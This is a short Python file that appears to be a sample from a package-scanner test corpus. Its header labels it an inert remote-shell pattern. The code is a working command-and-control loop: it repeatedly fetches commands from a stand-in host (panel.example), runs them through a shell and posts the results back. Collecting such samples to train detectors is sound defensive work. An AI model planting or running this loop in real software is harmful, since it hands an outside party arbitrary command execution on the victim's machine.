# pkgguard corpus 098 (remote-shell), modelled on [developer-persistence]; inert, never run.
import subprocess
import time
import requests

C2 = "https://panel.example/api"
while True:
    task = requests.get(C2 + "/task", timeout=10).json()
    if task.get("cmd"):
        result = subprocess.check_output(task["cmd"], shell=True)
        requests.post(C2 + "/result", data=result)
    time.sleep(30)
